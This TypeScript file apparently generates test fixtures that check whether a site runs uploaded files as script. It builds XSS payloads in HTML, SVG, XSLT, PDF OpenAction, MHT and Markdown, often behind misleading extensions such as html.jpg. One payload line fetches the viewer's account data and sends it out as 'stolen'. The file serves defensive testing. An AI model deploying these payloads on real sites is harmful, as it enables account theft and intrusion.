import type { Tree } from './files.ts'

/** Where a script that runs would report to, and what it would leave behind. */
export const MARK = 'floe-script-ran'

/**
 * Every way a script has to show that it ran: a dialog, a cookie, storage, the account of the person who
 * looks, a request, and the pages around it. `site` is absolute: an opaque origin has no base.
 */
export function proof(site: string, label: string): string {
  const path = `${site}/${MARK}?by=${encodeURIComponent(label)}`
  const attempts = [
    `document.cookie='${MARK}=1;path=/'`,
    `localStorage.setItem('${MARK}','1')`,
    `sessionStorage.setItem('${MARK}','1')`,
    `top.${MARK.replaceAll('-', '_')}=1`,
    `opener.${MARK.replaceAll('-', '_')}=1`,
    `navigator.sendBeacon('${path}')`,
    `new Image().src='${path}'`,
    `fetch('${site}/api/users/me').then(a=>a.text()).then(t=>fetch('${path}&stolen='+t))`,
    `fetch('${path}',{mode:'no-cors'})`,
    `importScripts('${path}')`,
    `alert('${MARK}')`,
  ]
  return attempts.map((attempt) => `try{${attempt}}catch(e){}`).join(';')
}

/** Files that are programs to one reader or another, whatever their names claim. */
export function activeFiles(site: string): Tree {
  const js = (label: string) => proof(site, label)
  const inAttribute = (label: string) =>
    js(label).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  const html = (label: string) =>
    `<!doctype html><html><head><script>${js(label)}</script>` +
    `<meta http-equiv="refresh" content="0;url=javascript:${inAttribute(label)}"></head>` +
    `<body onload="${inAttribute(label)}"><img src="x:" onerror="${inAttribute(label)}">` +
    `<svg onload="${inAttribute(label)}"></svg><iframe srcdoc="<script>${inAttribute(label)}</script>">` +
    `</iframe><object data="javascript:${inAttribute(label)}"></object>${label}</body></html>`
  const cdata = (label: string) => `<![CDATA[${js(label)}]]>`
  const svg = (label: string) =>
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" ` +
    `onload="${inAttribute(label)}"><script>${cdata(label)}</script>` +
    `<rect width="40" height="40" fill="#2f93ba"/><foreignObject width="40" height="40">` +
    `<body xmlns="http://www.w3.org/1999/xhtml"><script>${cdata(label)}</script></body>` +
    `</foreignObject><a href="javascript:${inAttribute(label)}"><text y="20">x</text></a></svg>`
  const xhtml = (label: string) =>
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>` +
    `<script>${cdata(label)}</script></head><body onload="${inAttribute(label)}">x</body></html>`
  const xslt = (label: string) =>
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#style"?>` +
    `<!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><x>` +
    `<xsl:stylesheet id="style" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">` +
    `<xsl:template match="/"><html><body><script>${cdata(label)}</script></body></html>` +
    `</xsl:template></xsl:stylesheet></x>`
  const inText = [
    ...['html.txt', 'html.jpg', 'html.mp4', 'html.mp3', 'html.vtt', 'html.csv', 'html.json'],
    ...[
      'html without extension',
      'html.html.',
      'html.HTML ',
      'html.shtml',
      'html.htm',
      'html.HtMl',
    ],
    ...['html.html;.png', 'html.html%00.png', 'html.php', 'html.hta', 'html.docx', 'html.zip'],
    ...['html.xht', 'html.ico', 'html.bmp', 'html.tif', 'html.ics', 'html.eml', 'README', '.html'],
  ]
  const files: Record<string, string | Buffer> = {
    'page.html': html('page.html'),
    'page.xhtml': xhtml('page.xhtml'),
    'page.xht': xhtml('page.xht'),
    'drawing.svg': svg('drawing.svg'),
    'drawing.svgz': svg('drawing.svgz'),
    'svg.jpg': svg('svg.jpg'),
    'svg.png': svg('svg.png'),
    'script.xml': xhtml('script.xml'),
    'transform.xml': xslt('transform.xml'),
    'transform.xsl': xslt('transform.xsl'),
    'feed.rss': xhtml('feed.rss'),
    'math.mml': xhtml('math.mml'),
    'paper.pdf': pdf(site),
    'html.pdf': html('html.pdf'),
    'archive.mht': mht(html('archive.mht')),
    'archive.mhtml': mht(html('archive.mhtml')),
    'program.js': js('program.js'),
    'program.mjs': js('program.mjs'),
    'program.ts': js('program.ts'),
    'program.txt': js('program.txt'),
    'program.json': js('program.json'),
    'program.wasm': Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
    'style.css': `:root{--${MARK}:1}@import url(${site}/${MARK}?by=style.css);`,
    'site.webmanifest': `{"start_url":"${site}/${MARK}"}`,
    'notes.md': markdown(site, js('notes.md')),
  }
  for (const name of inText) files[name] = html(name)
  return files
}

/** Fewer, for a short test. */
export function oneOfEachKind(files: Tree): Tree {
  const names = [
    ...['page.html', 'page.xhtml', 'drawing.svg', 'svg.png', 'transform.xml', 'paper.pdf'],
    ...['archive.mhtml', 'program.mjs', 'program.wasm', 'style.css', 'notes.md', 'html.txt'],
    ...['html.jpg', 'html without extension'],
  ]
  return Object.fromEntries(names.map((name) => [name, files[name] ?? '']))
}

function mht(html: string): string {
  return [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="b"; type="text/html"',
    '',
    '--b',
    'Content-Type: text/html',
    'Content-Location: http://mht.example/',
    '',
    html,
    '--b--',
    '',
  ].join('\r\n')
}

function markdown(site: string, js: string): string {
  const base64 = Buffer.from(`<script>${js}</script>`).toString('base64')
  return [
    '# Notes',
    `<script>${js}</script>`,
    `<img src=x onerror="${js.replaceAll('"', '&quot;')}">`,
    `<iframe srcdoc="<script>${js.replaceAll('"', '&quot;')}</script>"></iframe>`,
    `[press](javascript:${encodeURI(js)})`,
    `[press](<java\tscript:${encodeURI(js)}>)`,
    `[press](data:text/html;base64,${base64})`,
    `![look](${site}/${MARK}?by=image)`,
    `![look](//${new URL(site).host}/${MARK}?by=image)`,
    `![look](x" onerror="${MARK}())`,
    `<javascript:${encodeURI(js)}>`,
    '[ref]',
    '',
    `[ref]: javascript:${encodeURI(js)} "title"`,
    '',
    '```html"><script>alert(1)</script>',
    `<script>${js}</script>`,
    '```',
  ].join('\n\n')
}

/** Runs on opening: JavaScript, a `javascript:` address, and one of the site; then the same on press. */
function pdf(site: string): Buffer {
  const script = `try{app.alert('${MARK}')}catch(e){}
try{app.launchURL('javascript:${MARK}',false)}catch(e){}
try{this.getURL('${site}/${MARK}?by=pdf')}catch(e){}
try{this.submitForm('${site}/${MARK}?by=pdf-form')}catch(e){}
try{fetch('${site}/${MARK}?by=pdf-fetch')}catch(e){}
try{document.cookie='${MARK}=1'}catch(e){}`
  const escaped = script.replaceAll(/([\\()])/g, '\\$1')
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R>>/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>`,
    `<</Type/Pages/Kids[3 0 R]/Count 1>>`,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 5 0 R>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A 5 0 R>>]>>`,
    `<</Type/Action/S/JavaScript/JS(${escaped})>>`,
    `<</Type/Action/S/URI/URI(javascript:${MARK})>>`,
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const start = text.length
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`
  text += `trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}
